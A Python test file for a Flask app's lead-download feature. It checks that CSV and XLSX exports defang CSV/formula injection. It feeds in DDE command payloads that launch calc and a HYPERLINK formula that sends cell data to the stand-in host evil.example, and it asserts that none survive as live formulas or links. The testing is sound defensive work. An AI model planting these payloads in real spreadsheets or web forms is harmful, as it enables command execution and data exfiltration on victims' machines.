"""Formulas in what strangers write: no cell of a download begins with what a sheet would run."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import openpyxl
from flask import Flask
from flask.testing import FlaskClient

from campaigns.world import World
from tests.attacks.house import House, furnish
from tests.web.doors import csrf

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = [f"{start}cmd|' /C calc'!A0" for start in STARTS] + [
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '"=1+1',
    " =1",
]


def sent(world: World, app: Flask) -> House:
    """Leads whose answers, tags and tweets are formulas."""
    house = furnish(world, app, *FORMULAS)
    for number, formula in enumerate(FORMULAS):
        house.world.clock.advance(minutes=1)  # type: ignore[attr-defined]
        answer = house.send({"email": f"c{number}@ecole.example", "school": formula, "words": f"{formula}\n{formula}"})
        assert answer.status_code == 303
    return house


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def test_no_cell_of_a_csv_runs(
    world: World, app: Flask, staff: Callable[..., FlaskClient], api: Callable[..., FlaskClient]
) -> None:
    sent(world, app)
    machine = api("sales").get("/api/v1/leads.csv?rehearsal=true")
    files = [(machine.text, ",")]
    for locale, delimiter in (("en", ","), ("fr", ";")):
        member = staff("sales", email=f"{locale}@feuillet.example", locale=locale)
        data = {"csrf_token": csrf(member), "format": "csv", "which": "all"}
        answer = member.post("/leads/download?rehearsal=true", data=data)
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        files.append((answer.text, delimiter))
    for text, delimiter in files:
        found = cells(text.removeprefix("\ufeff"), delimiter)
        assert sum("cmd|" in cell for cell in found) >= 2 * len(STARTS)
        assert [cell for cell in found if cell.startswith(STARTS)] == []


def test_no_cell_of_a_sheet_is_a_formula_or_a_link(
    world: World, app: Flask, staff: Callable[..., FlaskClient]
) -> None:  # fmt: skip
    sent(world, app)
    member = staff("sales")
    data = {"csrf_token": csrf(member), "format": "xlsx", "which": "all"}
    answer = member.post("/leads/download?rehearsal=true", data=data)
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert sum("cmd|" in str(cell.value) for cell in found) >= len(STARTS)
    assert [cell.value for cell in found if cell.data_type == "f" or cell.hyperlink] == []
